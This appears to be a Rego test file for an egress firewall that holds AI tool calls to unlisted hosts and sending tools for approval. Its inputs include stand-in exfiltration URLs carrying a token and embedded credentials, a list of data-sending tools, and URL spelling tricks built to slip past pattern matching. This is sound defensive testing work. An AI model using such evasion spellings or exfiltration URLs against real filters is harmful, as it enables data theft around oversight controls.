# Tests for egress.rego (allowed_hosts from data.json: localhost, 127.0.0.1,
# .internal.example).
package mcp.firewall_test

import data.mcp.firewall

tool_call(name, args) := {
	"method": "tools/call",
	"server": "net",
	"server_trusted": true, "tool": {"name": name, "annotations": {"readOnlyHint": true}},
	"arguments": args,
}

test_external_url_held_and_reason_names_only_the_host if {
	call := tool_call("fetch_page", {"url": "https://evil.example.org/x?token=hunter2"})
	firewall.approve == {"tool fetch_page sends a request to evil.example.org, which is not in data.mcp_firewall.egress.allowed_hosts"} with input as call
}

test_allowed_hosts_pass if {
	count(firewall.approve) == 0 with input as tool_call("fetch_page", {"url": "http://localhost:8080/health"})
	count(firewall.approve) == 0 with input as tool_call("fetch_page", {"url": "https://api.internal.example/v1"})
	firewall.allow with input as tool_call("fetch_page", {"url": "http://127.0.0.1/"})
}

test_nested_url_and_user_info if {
	call := tool_call("summarize", {"opts": {"sources": ["see https://user:pw@Paste.Example.COM:443/abc"]}})
	reasons := firewall.approve with input as call
	reasons == {"tool summarize sends a request to paste.example.com, which is not in data.mcp_firewall.egress.allowed_hosts"}
}

test_senders_held if {
	every name in ["upload_file", "send_email", "post_webhook", "slack_send_message"] {
		count(firewall.approve) == 1 with input as tool_call(name, {"text": "hi"})
	}
}

test_http_write_methods_held if {
	call := tool_call("http_request", {"url": "http://localhost/api", "method": "post"})
	firewall.approve == {"tool http_request makes an HTTP POST request"} with input as call
	count(firewall.approve) == 0 with input as tool_call("http_request", {"url": "http://localhost/api", "method": "GET"})
}

test_no_allowed_hosts_means_every_url_held if {
	count(firewall.approve) == 1 with input as tool_call("fetch", {"url": "http://localhost/"}) with data.mcp_firewall.egress as {}
}

test_file_uris_are_not_egress if {
	count(firewall.approve) == 0 with input as tool_call("read_file", {"path": "file:///srv/a.txt"})
}

# The firewall's WHATWG reading of the same spellings Node resolves to
# evil.example (input.urls), each of which the pattern match alone misreads.
test_spelling_tricks_held_through_the_parsed_hosts if {
	every raw in [`https://evil.example\@127.0.0.1/x`, "https:evil.example/x", "https:/evil.example/x", `https:\\evil.example/x`] {
		call := object.union(tool_call("fetch_page", {"url": raw}), {"urls": [{"raw": raw, "scheme": "https", "host": "evil.example", "port": 443, "path": "/x", "userinfo": false}]})
		count(firewall.approve) == 1 with input as call
	}
}

# The pattern reading (no input.urls) finds every spelling of the scheme the
# regex does, among other strings; its plain "://" test first skips none.
test_pattern_reading_finds_every_spelling_of_the_scheme if {
	every raw in ["HTTPS://Evil.Example/x", "see hTTp://evil.example", "httpſ://evil.example/x", "HtTpS://evil.example"] {
		reasons := firewall.approve with input as tool_call("summarize", {"notes": ["plain text", {"n": raw}]})
		reasons == {"tool summarize sends a request to evil.example, which is not in data.mcp_firewall.egress.allowed_hosts"}
	}
}
